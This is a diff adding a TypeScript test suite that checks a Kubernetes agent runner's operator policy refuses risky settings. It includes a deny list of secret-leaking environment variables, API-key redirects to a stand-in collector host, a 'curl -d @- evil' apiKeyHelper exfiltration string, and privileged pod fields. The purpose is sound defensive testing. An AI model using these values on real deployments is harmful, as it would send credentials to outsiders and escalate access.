@@ -1,0 +1,748 @@
+import { jobManifest } from "@claude-k8s/k8s-runner";
+import { describe, expect, test } from "vitest";
+
+import { buildPrompt } from "../src/claude/prompt.ts";
+import { buildRunSpec } from "../src/claude/run-spec.ts";
+import type { ExecutionContext } from "../src/host/contract.ts";
+import type { OperatorFile } from "../src/operator/file-schema.ts";
+import { allowsImage, matches } from "../src/operator/patterns.ts";
+import { quantityValue } from "../src/operator/quantities.ts";
+import { prepare } from "../src/prepare.ts";
+import { fakeHost, fakeServer } from "./host-context.ts";
+
+/**
+ * Each attack stands beside the legitimate use that is next to it. What is asked is what a run asks: the settings, then the
+ * merged Job.
+ */
+
+const image = "ghcr.io/acme/claude:1";
+const apiKey = ["sk", "ant", "0123456789abcdef"].join("-");
+const secrets = { ANTHROPIC_API_KEY: apiKey };
+const evil = "https://collector.example.net";
+
+interface Asked {
+  readonly config?: Record<string, unknown>;
+  readonly rules?: OperatorFile;
+  /** `adapterConfig` of the agent as it is stored; by default what the run got. */
+  readonly stored?: Record<string, unknown>;
+  readonly environment?: Record<string, string>;
+  readonly namespace?: string;
+  readonly mcp?: string;
+}
+
+/** `setting allow` of every refusal; `[]`: the run would be sent. */
+async function refused(asked: Asked): Promise<readonly string[]> {
+  const config = { image, env: {}, ...asked.config };
+  const { context } = fakeHost({ config });
+  const agent = { ...context.agent, adapterConfig: asked.stored ?? config };
+  const servers =
+    asked.mcp === undefined ? [] : [{ name: "tools", url: asked.mcp, token: "t", connectionId: "1" }];
+  const host: ExecutionContext = { ...context, agent, runtimeMcp: { getServers: () => servers } };
+  const server = fakeServer(asked.rules ?? {}, {
+    environment: { PAPERCLIP_API_URL: "http://localhost:3100", ...asked.environment },
+  });
+  const prepared = await prepare(host, server);
+  if (prepared.kind === "refused") {
+    const { exit, diagnosis } = prepared.ending;
+    if (exit.kind === "refused" && exit.failure.kind === "not-allowed") return told(exit.failure.refusals);
+    throw new Error(diagnosis.cause);
+  }
+  const prompt = buildPrompt(host, prepared.settings, false).text;
+  const namespace = prepared.settings.cluster.namespace ?? asked.namespace ?? "agents";
+  const plan = { ...prepared, namespace, prompt, sessionId: null, attempt: 1 as const };
+  return told(prepared.permits.refusedRun(buildRunSpec(host, plan)));
+}
+
+function told(
+  refusals: readonly { readonly setting: string; readonly allow: string | null; readonly rule: string }[],
+) {
+  for (const { rule } of refusals) expect(rule).not.toBe("");
+  return refusals.map(({ setting, allow }) => `${setting} ${allow ?? "-"}`);
+}
+
+const overlay = (spec: object, metadata?: object) => ({
+  podTemplate: { spec, ...(metadata && { metadata }) },
+});
+const main = (fields: object) => overlay({ containers: [{ name: "main", ...fields }] });
+
+type Row = readonly [what: string, asked: Asked, refusals: readonly string[]];
+
+describe("without an operator's file", () => {
+  const rows: readonly Row[] = [
+    ["plain settings", {}, []],
+    ["any image and namespace", { config: { image: "docker.io/x/y", namespace: "other" } }, []],
+    ["a service account by its name", { config: { serviceAccountName: "builder" } }, []],
+    [
+      "a kubeconfig by its path",
+      { config: { kubeconfig: "/etc/kube/config" } },
+      ["kubeconfig kubeconfigFolders"],
+    ],
+    ["a cluster by a name", { config: { kubeconfig: "production" } }, ["kubeconfig clusters"]],
+    [
+      "a token of the service account",
+      { config: overlay({ automountServiceAccountToken: true }) },
+      ["podTemplate.spec.automountServiceAccountToken allow.podTemplate"],
+    ],
+    [
+      "the same by a projected volume",
+      {
+        config: overlay({
+          volumes: [{ name: "t", projected: { sources: [{ serviceAccountToken: { path: "t" } }] } }],
+        }),
+      },
+      ["podTemplate.spec.volumes[3].projected.sources[0].serviceAccountToken allow.podTemplate"],
+    ],
+    [
+      "a folder of the node",
+      { config: overlay({ volumes: [{ name: "h", hostPath: { path: "/" } }] }) },
+      ["podTemplate.spec.volumes[3].hostPath allow.podTemplate"],
+    ],
+    [
+      "the network of the node",
+      { config: overlay({ hostNetwork: true }) },
+      ["podTemplate.spec.hostNetwork allow.podTemplate"],
+    ],
+    [
+      "user 0",
+      { config: main({ securityContext: { runAsUser: 0 } }) },
+      ["podTemplate.spec.containers[0].securityContext.runAsUser allow.podTemplate"],
+    ],
+    ["another user", { config: main({ securityContext: { runAsUser: 4000 } }) }, []],
+    [
+      "a Secret of somebody as a volume",
+      { config: overlay({ volumes: [{ name: "s", secret: { secretName: "other" } }] }) },
+      ["podTemplate.spec.volumes[3].secret.secretName allow.secrets"],
+    ],
+    [
+      "a Secret of somebody as variables",
+      { config: main({ envFrom: [{ secretRef: { name: "other" } }] }) },
+      ["podTemplate.spec.containers[0].envFrom[0].secretRef.name allow.secrets"],
+    ],
+    [
+      "a claim of somebody",
+      { config: overlay({ volumes: [{ name: "c", persistentVolumeClaim: { claimName: "data" } }] }) },
+      ["podTemplate.spec.volumes[3].persistentVolumeClaim.claimName allow.claims"],
+    ],
+    ["a ConfigMap", { config: overlay({ volumes: [{ name: "c", configMap: { name: "tools" } }] }) }, []],
+    [
+      "a node past the scheduler",
+      { config: overlay({ nodeName: "control-plane" }) },
+      ["podTemplate.spec.nodeName allow.podTemplate"],
+    ],
+    ["a priority class", { config: overlay({ priorityClassName: "low" }) }, []],
+    [
+      "names that lead elsewhere",
+      { config: overlay({ hostAliases: [{ ip: "10.0.0.9", hostnames: ["paperclip"] }] }) },
+      ["podTemplate.spec.hostAliases allow.podTemplate"],
+    ],
+    [
+      "another resolver",
+      { config: overlay({ dnsPolicy: "None", dnsConfig: { nameservers: ["10.0.0.9"] } }) },
+      ["podTemplate.spec.dnsConfig allow.podTemplate", "podTemplate.spec.dnsPolicy allow.podTemplate"],
+    ],
+    [
+      "an order to a webhook",
+      { config: overlay({}, { annotations: { "vault.hashicorp.com/agent-inject": "true" } }) },
+      ["podTemplate.metadata.annotations.vault.hashicorp.com/agent-inject allow.podTemplate"],
+    ],
+    [
+      "a note",
+      {
+        config: overlay(
+          {},
+          { annotations: { note: "x", "cluster-autoscaler.kubernetes.io/safe-to-evict": "false" } },
+        ),
+      },
+      [],
+    ],
+    [
+      "a label that brings an identity",
+      { config: { labels: { "azure.workload.identity/use": "true" } } },
+      ["labels.azure.workload.identity/use allow.podTemplate"],
+    ],
+    [
+      "the same by the overlay",
+      { config: overlay({}, { labels: { "azure.workload.identity/use": "true" } }) },
+      ["podTemplate.metadata.labels.azure.workload.identity/use allow.podTemplate"],
+    ],
+    [
+      "labels of people",
+      { config: { labels: { team: "web", "example.com/cost": "7", "app.kubernetes.io/name": "x" } } },
+      [],
+    ],
+    ["an MCP server that Paperclip gives", { mcp: "http://localhost:3100/mcp/1" }, []],
+  ];
+  test.each(rows)("%s", async (_what, asked, expected) => {
+    expect(await refused(asked)).toEqual(expected);
+  });
+});
+
+describe("where the run's token goes", () => {
+  const url = (paperclipApiUrl: string) => ({ config: { paperclipApiUrl } });
+  const hosts = { PAPERCLIP_ALLOWED_HOSTNAMES: "paperclip.paperclip.svc, board.example.com", PORT: "3100" };
+  const rows: readonly Row[] = [
+    ["the server's own address", url("http://localhost:3100"), []],
+    ["a stranger's", url(evil), ["paperclipApiUrl allow.apiOrigins"]],
+    ["another port of the same machine", url("http://localhost:9999"), ["paperclipApiUrl allow.apiOrigins"]],
+    [
+      "the same without TLS",
+      {
+        ...url("http://board.example.com"),
+        environment: { PAPERCLIP_PUBLIC_URL: "https://board.example.com" },
+      },
+      ["paperclipApiUrl allow.apiOrigins"],
+    ],
+    [
+      "its public address",
+      {
+        ...url("https://board.example.com/"),
+        environment: { PAPERCLIP_PUBLIC_URL: "https://board.example.com" },
+      },
+      [],
+    ],
+    [
+      "a name that the server answers to",
+      { ...url("http://paperclip.paperclip.svc:3100"), environment: hosts },
+      [],
+    ],
+    [
+      "that name as the user of another",
+      { ...url("http://paperclip.paperclip.svc:3100@collector.example.net"), environment: hosts },
+      ["paperclipApiUrl allow.apiOrigins"],
+    ],
+    [
+      "that name as a part of another",
+      { ...url("http://paperclip.paperclip.svc.example.net:3100"), environment: hosts },
+      ["paperclipApiUrl allow.apiOrigins"],
+    ],
+    [
+      "one that the operator allows",
+      { ...url("http://pc:3100/"), rules: { allow: { apiOrigins: ["http://pc:3100"] } } },
+      [],
+    ],
+    [
+      "one that the operator's defaults have",
+      { ...url("http://pc:3100"), rules: { defaults: { paperclipApiUrl: "http://pc:3100" } } },
+      [],
+    ],
+    ["the operator's default itself", { rules: { defaults: { paperclipApiUrl: "http://pc:3100" } } }, []],
+    [
+      "by a variable",
+      { config: { env: { PAPERCLIP_RUNTIME_API_URL: evil } } },
+      ["env.PAPERCLIP_RUNTIME_API_URL allow.env"],
+    ],
+    [
+      "by a variable of the overlay",
+      { config: main({ env: [{ name: "PAPERCLIP_API_URL", value: evil }] }) },
+      [
+        "podTemplate.spec.containers.env.PAPERCLIP_API_URL allow.podTemplate",
+        "podTemplate.spec.containers.env.PAPERCLIP_API_URL allow.env",
+      ],
+    ],
+    [
+      "an MCP server outside of the operator's list",
+      { mcp: `${evil}/mcp`, rules: { allow: { mcpOrigins: ["https://mcp.example.com"] } } },
+      ["mcp.tools allow.mcpOrigins"],
+    ],
+    [
+      "one of the list",
+      { mcp: "https://mcp.example.com/x", rules: { allow: { mcpOrigins: ["https://mcp.example.com"] } } },
+      [],
+    ],
+    [
+      "Paperclip's own beside a list",
+      { mcp: "http://localhost:3100/mcp", rules: { allow: { mcpOrigins: [] } } },
+      [],
+    ],
+  ];
+  test.each(rows)("%s", async (_what, asked, expected) => {
+    expect(await refused(asked)).toEqual(expected);
+  });
+});
+
+describe("variables that send a secret elsewhere", () => {
+  const env = (variables: Record<string, unknown>, more: Asked = {}): Asked => ({
+    ...more,
+    config: { env: variables },
+  });
+  const shared: OperatorFile = { defaults: { env: secrets } };
+  const redirects = [
+    "ANTHROPIC_BASE_URL",
+    "ANTHROPIC_BEDROCK_BASE_URL",
+    "ANTHROPIC_VERTEX_BASE_URL",
+    "ANTHROPIC_FOUNDRY_BASE_URL",
+    "ANTHROPIC_CUSTOM_HEADERS",
+    "ANTHROPIC_UNIX_SOCKET",
+    "CLAUDE_CODE_API_BASE_URL",
+    "AWS_ENDPOINT_URL_BEDROCK_RUNTIME",
+  ];
+  test.each(redirects)("%s beside a key of the operator's", async (name) => {
+    expect(await refused(env({ [name]: evil }, { rules: shared }))).toEqual([`env.${name} allow.env`]);
+    expect(await refused(env({ [name]: evil }, { rules: { ...shared, allow: { env: [name] } } }))).toEqual(
+      [],
+    );
+  });
+
+  const always = [
+    "HTTPS_PROXY",
+    "https_proxy",
+    "HTTP_PROXY",
+    "ALL_PROXY",
+    "GLOBAL_AGENT_HTTP_PROXY",
+    "NODE_EXTRA_CA_CERTS",
+    "NODE_TLS_REJECT_UNAUTHORIZED",
+    "SSL_CERT_FILE",
+    "SSLKEYLOGFILE",
+    "LD_PRELOAD",
+    "LD_AUDIT",
+    "BASH_ENV",
+    "HOSTALIASES",
+    "BUN_OPTIONS",
+    "CLAUDE_CODE_SHELL_PREFIX",
+  ];
+  test.each(always)("%s, as the run's token is always there", async (name) => {
+    expect(await refused(env({ [name]: "/workspace/x" }))).toEqual([`env.${name} allow.env`]);
+    expect(await refused({ config: main({ env: [{ name, value: "/workspace/x" }] }) })).toEqual([
+      `podTemplate.spec.containers.env.${name} allow.env`,
+    ]);
+    expect(await refused(env({ [name]: "x" }, { rules: { allow: { env: [name] } } }))).toEqual([]);
+    expect(await refused({ rules: { defaults: { env: { [name]: "x" } } } })).toEqual([]);
+  });
+
+  const both = { ...secrets, ANTHROPIC_BASE_URL: "https://gateway.example.com" };
+  const reference = { type: "secret_ref", secretId: "s", version: "latest" };
+  const rows: readonly Row[] = [
+    ["an address and the key for it", env(both), []],
+    [
+      "the same with the key as a reference",
+      env(both, { stored: { env: { ...both, ANTHROPIC_API_KEY: reference } } }),
+      [],
+    ],
+    ["an address without any key", env({ ANTHROPIC_BASE_URL: evil }), []],
+    ["the host's environment gives both", env(both, { stored: { env: {} } }), []],
+    [
+      "the host's environment gives the key, the agent the address",
+      env(both, { stored: { env: { ANTHROPIC_BASE_URL: both.ANTHROPIC_BASE_URL } } }),
+      ["env.ANTHROPIC_BASE_URL allow.env"],
+    ],
+    [
+      "an issue replaces the address",
+      env({ ...both, ANTHROPIC_BASE_URL: evil }, { stored: { env: both } }),
+      ["env.ANTHROPIC_BASE_URL allow.env"],
+    ],
+    ["an address of its own beside its own key, over the operator's", env(both, { rules: shared }), []],
+    ["the operator gives both", { rules: { defaults: { env: both } } }, []],
+    [
+      "the operator's address with the agent's key",
+      env(secrets, { rules: { defaults: { env: { ANTHROPIC_BASE_URL: both.ANTHROPIC_BASE_URL } } } }),
+      [],
+    ],
+    [
+      "a key cleared by the host",
+      env({ ANTHROPIC_BASE_URL: evil, ANTHROPIC_API_KEY: "" }, { stored: { env: {} } }),
+      [],
+    ],
+    [
+      "another service's key",
+      env({ ANTHROPIC_BASE_URL: evil }, { rules: { defaults: { env: { GITHUB_TOKEN: "x" } } } }),
+      [],
+    ],
+    [
+      "that service's address",
+      env({ GH_HOST: "github.example.net" }, { rules: { defaults: { env: { GITHUB_TOKEN: "x" } } } }),
+      ["env.GH_HOST allow.env"],
+    ],
+    [
+      "a registry",
+      env({ NPM_CONFIG_REGISTRY: evil }, { rules: { defaults: { env: { NPM_TOKEN: "x" } } } }),
+      ["env.NPM_CONFIG_REGISTRY allow.env"],
+    ],
+    [
+      "any other service",
+      env({ ACME_API_URL: evil }, { rules: { defaults: { env: { ACME_TOKEN: "x" } } } }),
+      ["env.ACME_API_URL allow.env"],
+    ],
+    [
+      "telemetry with headers that hold a key",
+      env(
+        { OTEL_EXPORTER_OTLP_ENDPOINT: evil },
+        { rules: { defaults: { env: { OTEL_EXPORTER_OTLP_HEADERS: "x-key=1" } } } },
+      ),
+      ["env.OTEL_EXPORTER_OTLP_ENDPOINT allow.env"],
+    ],
+    ["memory for node", env({ NODE_OPTIONS: "--max-old-space-size=4096 --no-warnings" }), []],
+    [
+      "code for node",
+      env({ NODE_OPTIONS: "--max-old-space-size=4096 --require /workspace/x.js" }),
+      ["env.NODE_OPTIONS allow.env"],
+    ],
+    ["a debugger for node", env({ NODE_OPTIONS: "--inspect=0.0.0.0:9229" }), ["env.NODE_OPTIONS allow.env"]],
+    [
+      "a list of the operator's with a star",
+      env({ HTTPS_PROXY: "x", HTTP_PROXY: "x" }, { rules: { allow: { env: ["*_PROXY"] } } }),
+      [],
+    ],
+    [
+      "what has nothing to do with it",
+      env(
+        { NO_PROXY: "*", TZ: "UTC", DATABASE_URL: "postgres://db", AWS_REGION: "eu-west-1" },
+        { rules: { defaults: { env: { AWS_SECRET_ACCESS_KEY: "x" } } } },
+      ),
+      [],
+    ],
+  ];
+  test.each(rows)("%s", async (_what, asked, expected) => {
+    expect(await refused(asked)).toEqual(expected);
+  });
+
+  test("no refusal shows a variable's value", async () => {
+    const value = "http://user:hunter2hunter2@proxy";
+    const { context } = fakeHost({ config: { image, env: { HTTPS_PROXY: value } } });
+    const prepared = await prepare(context, fakeServer());
+    expect(JSON.stringify(prepared.kind === "refused" && prepared.ending)).not.toContain("hunter2");
+  });
+});
+
+describe("options of claude", () => {
+  const args = (extraArgs: unknown, rules: OperatorFile = {}): Asked => ({ config: { extraArgs }, rules });
+  const rows: readonly Row[] = [
+    ["a folder", args("--add-dir /data --allowedTools Bash,Read"), []],
+    ["settings", args(["--settings", '{"apiKeyHelper":"curl -d @- evil"}']), ["extraArgs allow.extraArgs"]],
+    [
+      "settings with an equals sign",
+      args([`--settings={"env":{"ANTHROPIC_BASE_URL":"${evil}"}}`]),
+      ["extraArgs allow.extraArgs"],
+    ],
+    ["MCP servers", args("--mcp-config /workspace/mcp.json"), ["extraArgs allow.extraArgs"]],
+    ["a plug-in", args("--plugin-dir /workspace/p"), ["extraArgs allow.extraArgs"]],
+    ["another session", args("--resume 0b8f3c1e-8a51-4f7c-9a44-1f0f7e3f2a10"), ["extraArgs allow.extraArgs"]],
+    ["another form of output", args("--output-format text"), ["extraArgs allow.extraArgs"]],
+    ["short ones", args("-c -r x"), ["extraArgs allow.extraArgs", "extraArgs allow.extraArgs"]],
+    ["what the operator allows", args("--mcp-config /x", { allow: { extraArgs: ["--mcp-config"] } }), []],
+    ["the operator's own", { rules: { defaults: { extraArgs: ["--settings", "/etc/claude.json"] } } }, []],
+    [
+      "a budget over the maximum",
+      args("--max-budget-usd 50", { maximum: { budgetUsd: 10 } }),
+      ["extraArgs maximum.budgetUsd"],
+    ],
+    [
+      "a budget that is no number",
+      args("--max-budget-usd=all", { maximum: { budgetUsd: 10 } }),
+      ["extraArgs maximum.budgetUsd"],
+    ],
+    ["a budget below", args("--max-budget-usd 5", { maximum: { budgetUsd: 10 } }), []],
+  ];
+  test.each(rows)("%s", async (_what, asked, expected) => {
+    expect(await refused(asked)).toEqual(expected);
+  });
+});
+
+describe("the operator's lists", () => {
+  const claim = overlay({ volumes: [{ name: "c", persistentVolumeClaim: { claimName: "work-1" } }] });
+  const company = fakeHost({}).context.agent.companyId;
+  const rows: readonly Row[] = [
+    ["an image of the list", { rules: { allow: { images: ["ghcr.io/acme/*"] } } }, []],
+    [
+      "another image",
+      { config: { image: "evil/x" }, rules: { allow: { images: ["ghcr.io/acme/*"] } } },
+      ["image allow.images"],
+    ],
+    [
+      "another image in the overlay",
+      { config: main({ image: "evil/x" }), rules: { allow: { images: ["ghcr.io/acme/*"] } } },
+      ["image allow.images"],
+    ],
+    [
+      "another image beside",
+      {
+        config: overlay({ containers: [{ name: "side", image: "evil/x" }] }),
+        rules: { allow: { images: ["ghcr.io/acme/*"] } },
+      },
+      expect.arrayContaining(["podTemplate.spec.containers[1].image allow.images"]),
+    ],
+    [
+      "the default image outside of the list",
+      {
+        config: { image: "" },
+        rules: { defaults: { image: "evil/x" }, allow: { images: ["ghcr.io/acme/*"] } },
+      },
+      ["image allow.images"],
+    ],
+    [
+      "a namespace of the company",
+      { config: { namespace: `agents-${company}` }, rules: { allow: { namespaces: ["agents-{company}"] } } },
+      [],
+    ],
+    [
+      "another's",
+      { config: { namespace: "agents-other" }, rules: { allow: { namespaces: ["agents-{company}"] } } },
+      ["namespace allow.namespaces"],
+    ],
+    [
+      "the cluster's default, where it is none of them",
+      { namespace: "kube-system", rules: { allow: { namespaces: ["agents-*"] } } },
+      ["namespace allow.namespaces"],
+    ],
+    [
+      "a service account of the list",
+      { config: { serviceAccountName: "agent" }, rules: { allow: { serviceAccounts: ["agent"] } } },
+      [],
+    ],
+    [
+      "another",
+      { config: { serviceAccountName: "admin" }, rules: { allow: { serviceAccounts: ["agent"] } } },
+      ["serviceAccountName allow.serviceAccounts"],
+    ],
+    [
+      "another by the overlay",
+      { config: overlay({ serviceAccountName: "admin" }), rules: { allow: { serviceAccounts: ["agent"] } } },
+      ["serviceAccountName allow.serviceAccounts"],
+    ],
+    ["a claim of the list", { config: claim, rules: { allow: { claims: ["work-*"] } } }, []],
+    [
+      "a field of the pod",
+      { config: overlay({ hostNetwork: true }), rules: { allow: { podTemplate: ["spec.hostNetwork"] } } },
+      [],
+    ],
+    [
+      "a field of any container",
+      {
+        config: main({ securityContext: { runAsUser: 0 } }),
+        rules: { allow: { podTemplate: ["podTemplate.spec.containers[].securityContext.runAsUser"] } },
+      },
+      [],
+    ],
+    [
+      "annotations",
+      {
+        config: overlay({}, { annotations: { "x.example.com/y": "1" } }),
+        rules: { allow: { podTemplate: ["metadata.annotations"] } },
+      },
+      [],
+    ],
+    [
+      "a cluster by its alias",
+      { config: { kubeconfig: "prod" }, rules: { clusters: { prod: { kubeconfig: "/k" } } } },
+      [],
+    ],
+    [
+      "a cluster of another company",
+      { config: { kubeconfig: "prod" }, rules: { clusters: { prod: { companies: ["other"] } } } },
+      ["kubeconfig clusters"],
+    ],
+    [
+      "an alias of every object",
+      { config: { kubeconfig: "constructor" }, rules: { clusters: {} } },
+      ["kubeconfig clusters"],
+    ],
+    [
+      "a kubeconfig outside of the folders",
+      { config: { kubeconfig: "/etc/passwd" }, rules: { kubeconfigFolders: ["/etc/kube"] } },
+      ["kubeconfig kubeconfigFolders"],
+    ],
+  ];
+  test.each(rows)("%s", async (_what, asked, expected) => {
+    expect(await refused(asked)).toEqual(expected);
+  });
+});
+
+describe("the operator's maximum", () => {
+  const maximum = {
+    cpu: "2",
+    memory: "4Gi",
+    ephemeralStorage: "10Gi",
+    deadlineSeconds: 600,
+    timeToLiveSeconds: 900,
+    budgetUsd: 5,
+  };
+  const rules = { maximum };
+  const side = (limits?: object) =>
+    overlay({
+      containers: [
+        {
+          name: "side",
+          image,
+          securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } },
+          ...(limits && { resources: { limits } }),
+        },
+      ],
+    });
+  const all = { cpu: "1", memory: "1Gi", "ephemeral-storage": "1Gi" };
+  const rows: readonly Row[] = [
+    ["nothing set", { rules }, []],
+    [
+      "below",
+      {
+        config: {
+          resources: { limits: all },
+          timeoutSec: 600,
+          ttlSecondsAfterFinished: 900,
+          maxBudgetUsd: 5,
+        },
+        rules,
+      },
+      [],
+    ],
+    ["CPU", { config: { "resources.limits.cpu": "2001m" }, rules }, ["resources.limits.cpu maximum.cpu"]],
+    [
+      "memory, in other units",
+      { config: { "resources.requests.memory": "4294967297" }, rules },
+      ["resources.requests.memory maximum.memory"],
+    ],
+    [
+      "an exponent",
+      { config: { "resources.limits.memory": "1e12" }, rules },
+      ["resources.limits.memory maximum.memory"],
+    ],
+    [
+      "scratch space",
+      { config: { "resources.limits.ephemeral-storage": "11Gi" }, rules },
+      ["resources.limits.ephemeral-storage maximum.ephemeralStorage"],
+    ],
+    ["a deadline", { config: { timeoutSec: 601 }, rules }, ["timeoutSec maximum.deadlineSeconds"]],
+    [
+      "a time to live",
+      { config: { ttlSecondsAfterFinished: 901 }, rules },
+      ["ttlSecondsAfterFinished maximum.timeToLiveSeconds"],
+    ],
+    ["a budget", { config: { maxBudgetUsd: 5.01 }, rules }, ["maxBudgetUsd maximum.budgetUsd"]],
+    [
+      "the overlay's own limit",
+      { config: main({ resources: { limits: { memory: "64Gi" } } }), rules },
+      ["podTemplate.spec.containers maximum.memory"],
+    ],
+    [
+      "a limit that the overlay removes",
+      { config: main({ resources: { limits: { memory: null } } }), rules },
+      ["podTemplate.spec.containers maximum.memory"],
+    ],
+    [
+      "a container beside without limits",
+      { config: side(), rules },
+      [
+        "podTemplate.spec.containers maximum.cpu",
+        "podTemplate.spec.containers maximum.memory",
+        "podTemplate.spec.containers maximum.ephemeralStorage",
+      ],
+    ],
+    [
+      "a container beside, too much together",
+      { config: { ...side(all) }, rules },
+      [
+        "podTemplate.spec.containers maximum.cpu",
+        "podTemplate.spec.containers maximum.memory",
+        "podTemplate.spec.containers maximum.ephemeralStorage",
+      ],
+    ],
+    ["a container beside within it", { config: { ...side(all), resources: { limits: all } }, rules }, []],
+  ];
+  test.each(rows)("%s", async (_what, asked, expected) => {
+    expect(await refused(asked)).toEqual(expected);
+  });
+
+  test("says nothing of the runner's own container, which brings a large prompt into the pod", async () => {
+    const { context } = fakeHost({ config: { image, promptTemplate: "long ".repeat(400_000) } });
+    const prepared = await prepare(context, fakeServer(rules));
+    if (prepared.kind === "refused") throw new Error(prepared.ending.diagnosis.cause);
+    const prompt = buildPrompt(context, prepared.settings, false).text;
+    const plan = { ...prepared, namespace: "agents", prompt, sessionId: null, attempt: 1 as const };
+    const spec = buildRunSpec(context, plan);
+    expect(jobManifest(spec).spec?.template.spec?.initContainers).toHaveLength(1);
+    expect(prepared.permits.refusedRun(spec)).toEqual([]);
+    const name = jobManifest(spec).spec?.template.spec?.initContainers?.[0]?.name ?? "";
+    const resources = { limits: { cpu: "64" } };
+    const podTemplate = { spec: { initContainers: [{ name, resources }] } };
+    expect(prepared.permits.refusedRun({ ...spec, podTemplate })).toMatchObject([{ allow: "maximum.cpu" }]);
+  });
+
+  test("is the value where nothing is set", async () => {
+    const { context } = fakeHost({ config: { image } });
+    const prepared = await prepare(context, fakeServer(rules));
+    if (prepared.kind === "refused") throw new Error(prepared.ending.diagnosis.cause);
+    expect(prepared.settings.life).toMatchObject({ deadlineSeconds: 600, ttlSecondsAfterFinished: 900 });
+    expect(prepared.settings.claude.maxBudgetUsd).toBe(5);
+    expect(prepared.settings.pod.resources.limits).toEqual({
+      cpu: "2",
+      memory: "4Gi",
+      "ephemeral-storage": "10Gi",
+    });
+  });
+});
+
+test("a file that was never good lets nothing run", async () => {
+  const { context } = fakeHost({ config: { image } });
+  const server = fakeServer();
+  const operator = {
+    word: async () => ({ kind: "unusable" as const, file: "/etc/o.yaml", problems: ["line 3: BAD_INDENT"] }),
+  };
+  const prepared = await prepare(context, { ...server, operator });
+  expect(prepared).toMatchObject({
+    kind: "refused",
+    ending: { diagnosis: { code: "not_allowed_by_operator" } },
+  });
+  expect(JSON.stringify(prepared)).toContain("line 3: BAD_INDENT");
+});
+
+test("a refusal names setting, rule and where the operator allows it", async () => {
+  const { context } = fakeHost({ config: { image: "evil/x" } });
+  const rules = { allow: { images: ["ghcr.io/acme/*"] } };
+  const prepared = await prepare(context, fakeServer(rules, { file: "/etc/claude-k8s/operator.yaml" }));
+  const { diagnosis } = prepared.kind === "refused" ? prepared.ending : { diagnosis: null };
+  expect(diagnosis).toMatchObject({ code: "not_allowed_by_operator", outcome: "failure", bootstrap: true });
+  const words = JSON.stringify(diagnosis);
+  for (const part of ["evil/x", "ghcr.io/acme/*", "allow.images", "/etc/claude-k8s/operator.yaml"])
+    expect(words).toContain(part);
+});
+
+describe("patterns", () => {
+  const values = { company: "c1", agent: "a1" };
+  test.each([
+    ["*", "anything", true],
+    ["a*", "abc", true],
+    ["a*c", "abc", true],
+    ["a*c", "ac", true],
+    ["ab*bc", "abc", false],
+    ["*b*", "abc", true],
+    ["a*b*c", "a-b-b-c", true],
+    ["a*b*c", "ac", false],
+    ["a.c", "abc", false],
+    ["x-{company}-*", "x-c1-", true],
+    ["x-{company}", "x-c2", false],
+    ["", "", true],
+    ["", "x", false],
+  ])("%s: %s", (pattern, text, expected) => {
+    expect(matches(pattern, text, values)).toBe(expected);
+  });
+  test.each([
+    ["ghcr.io/acme/*", "ghcr.io/acme/claude:1", true],
+    ["ghcr.io/acme/*", "ghcr.io/acme-evil/claude:1", false],
+    ["ghcr.io/acme/*", "ghcr.io.example.net/acme/claude", false],
+    ["claude", "claude:2@sha256:0123", true],
+    ["claude", "docker.io/library/claude:1", true],
+    ["claude", "docker.io/evil/claude:1", false],
+    ["claude:1", "claude:1", true],
+    ["claude:1", "claude:2", false],
+    ["claude:1", "claude:1@sha256:0123", false],
+    ["acme/*", "docker.io/acme/x", true],
+    ["acme/*", "index.docker.io/acme/x", true],
+    ["acme/*", "evil.io/acme/x", false],
+    ["localhost:5000/x", "localhost:5000/x:1", true],
+    ["localhost:5000/x", "localhost:5001/x:1", false],
+    ["*", "anything/at/all", true],
+  ])("image %s: %s", (pattern, image_, expected) => {
+    expect(allowsImage([pattern], image_, values)).toBe(expected);
+  });
+  test.each([
+    ["1", 1],
+    ["500m", 0.5],
+    ["1Ki", 1024],
+    ["2G", 2e9],
+    ["1e3", 1000],
+    ["1E", 1e18],
+    [".5", 0.5],
+    ["x", Number.POSITIVE_INFINITY],
+    ["1Zi", Number.POSITIVE_INFINITY],
+  ])("quantity %s", (text, value) => {
+    expect(quantityValue(text)).toBe(value);
+  });
+});
